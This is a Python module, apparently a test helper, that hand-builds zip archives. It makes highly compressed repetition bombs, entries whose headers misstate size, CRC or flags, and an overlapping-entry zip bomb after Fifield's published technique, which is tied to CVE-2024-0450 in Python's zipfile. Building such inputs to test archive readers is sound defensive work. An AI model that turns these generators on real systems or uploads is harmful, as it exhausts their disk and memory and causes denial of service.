"""Zips made by hand: packed without holding what is packed, and lying where they are told to.

The layout is PKWARE's APPNOTE 6.3.10, sections 4.3.7 (local header), 4.3.12
(directory) and 4.3.16 (end of the directory).
"""

import struct
import zlib
from collections.abc import Iterable, Iterator, Sequence
from typing import NamedTuple

STORED, DEFLATED = 0, 8
"""Ways to pack (4.4.5)."""

RAW = -15
"""zlib's word for a deflate stream without header, of the largest window."""

BLOCK = 256 * 1024
"""Bytes that are packed at once; longer repetitions repeat the packed bytes."""

NUMBERS = 10_000
"""Numbered texts that are packed at once."""

END_OF_DEFLATE = b"\x03\x00"
"""A last block with nothing in it (RFC 1951, 3.2.3)."""

VERSION, DATE = 20, 0x5C21
"""Version needed (2.0) and 1 January 2026, as every entry has them."""


class Repeat(NamedTuple):
    """A text that stands there so many times, one after the other."""

    text: bytes
    times: int


class Numbered(NamedTuple):
    """A text for each number from first to last; every ``%d`` in it is the number."""

    text: bytes
    first: int
    last: int


Piece = bytes | Repeat | Numbered
"""What parts are made of."""


class Part(NamedTuple):
    """One entry of a zip, as its headers describe it; they may lie.

    Attributes:
        name: Of the part.
        packed: Its bytes in the file.
        size: Unpacked, in bytes.
        crc: CRC-32 of what it unpacks to.
        method: How it is packed.
        flags: General purpose bits; 1: encrypted.
        extra: Of the directory's entry alone, such as ZIP64 sizes.
    """

    name: str
    packed: bytes
    size: int
    crc: int
    method: int = DEFLATED
    flags: int = 0
    extra: bytes = b""


def deflated(name: str, *pieces: Piece) -> Part:
    """Pack pieces one after the other; a gigabyte of the same costs a megabyte."""
    return extended(Part(name, END_OF_DEFLATE, 0, 0), *pieces)


def extended(part: Part, *pieces: Piece) -> Part:
    """Pack more behind what a part unpacks to."""
    packed = [part.packed.removesuffix(END_OF_DEFLATE)]
    crc, size = part.crc, part.size
    for piece in pieces:
        for data, times in _blocks(piece):
            # after a full flush nothing refers back, so the bytes may stand there again
            level = zlib.Z_BEST_COMPRESSION if times > 1 else zlib.Z_BEST_SPEED
            machine = zlib.compressobj(level, zlib.DEFLATED, RAW)
            packed.append((machine.compress(data) + machine.flush(zlib.Z_FULL_FLUSH)) * times)
            for _ in range(times):
                crc = zlib.crc32(data, crc)
            size += len(data) * times
    return part._replace(packed=b"".join([*packed, END_OF_DEFLATE]), size=size, crc=crc)


def _blocks(piece: Piece) -> Iterator[tuple[bytes, int]]:
    """Give what a piece is made of: data of a moderate size, and how often it stands there."""
    if isinstance(piece, Repeat):
        in_block = max(1, min(piece.times, BLOCK // len(piece.text)))
        yield piece.text * in_block, piece.times // in_block
        yield piece.text * (piece.times % in_block), 1
    elif isinstance(piece, Numbered):
        places = piece.text.count(b"%d")
        for start in range(piece.first, piece.last + 1, NUMBERS):
            numbers = range(start, min(start + NUMBERS, piece.last + 1))
            yield b"".join(piece.text % ((n,) * places) for n in numbers), 1
    else:
        yield piece, 1


def local_header(part: Part) -> bytes:
    """Write what stands in front of a part's bytes."""
    name = part.name.encode()
    sizes = (part.crc, len(part.packed), min(part.size, 0xFFFFFFFF))
    fields = (VERSION, part.flags, part.method, 0, DATE, *sizes, len(name), 0)
    return struct.pack("<4s5H3I2H", b"PK\x03\x04", *fields) + name


def directory_entry(part: Part, offset: int) -> bytes:
    """Write a part's entry in the directory; its local header is at the offset."""
    name = part.name.encode()
    sizes = (part.crc, len(part.packed), min(part.size, 0xFFFFFFFF), len(name), len(part.extra))
    fields = (VERSION, VERSION, part.flags, part.method, 0, DATE, *sizes, 0, 0, 0, 0, offset)
    return struct.pack("<4s6H3I5H2I", b"PK\x01\x02", *fields) + name + part.extra


def end_of_directory(count: int, size: int, offset: int) -> bytes:
    """Write the end of a zip: entries, bytes of the directory, and where it begins."""
    entries = count & 0xFFFF  # readers go by the directory's size
    return struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, entries, entries, size, offset, 0)


def zipped(parts: Iterable[Part]) -> bytes:
    """Make a zip of parts."""
    body: list[bytes] = []
    directory: list[bytes] = []
    offset = 0
    for part in parts:
        directory.append(directory_entry(part, offset))
        for piece in (local_header(part), part.packed):
            body.append(piece)
            offset += len(piece)
    listed = b"".join(directory)
    return b"".join([*body, listed, end_of_directory(len(directory), len(listed), offset)])


def overlapping(names: Sequence[str], kernel: Part) -> bytes:
    """Make a zip whose parts all unpack to the kernel's bytes, which stand there once.

    Each part is the next one's local header, quoted in a stored block of the
    deflate stream, and then all that this one unpacks to (D. Fifield, "A better
    zip bomb", WOOT 2019, section 4). CVE-2024-0450 is that zipfile opens it.
    """
    tail = kernel.packed
    unpacked = zlib.decompressobj(RAW).decompress(tail)
    parts: list[Part] = []
    for name in names:
        part = Part(name, tail, len(unpacked), zlib.crc32(unpacked))
        header = local_header(part)
        parts.append(part)
        # a stored block: not the last one, its length, and that inverted (RFC 1951, 3.2.4)
        quoted = b"\x00" + struct.pack("<2H", len(header), len(header) ^ 0xFFFF)
        tail = quoted + header + tail
        unpacked = header + unpacked
    data = tail[len(quoted) :]
    offsets = [len(data) - len(part.packed) - len(local_header(part)) for part in parts]
    entries = [directory_entry(*pair) for pair in zip(parts, offsets, strict=True)]
    directory = b"".join(entries)
    return data + directory + end_of_directory(len(entries), len(directory), len(data))
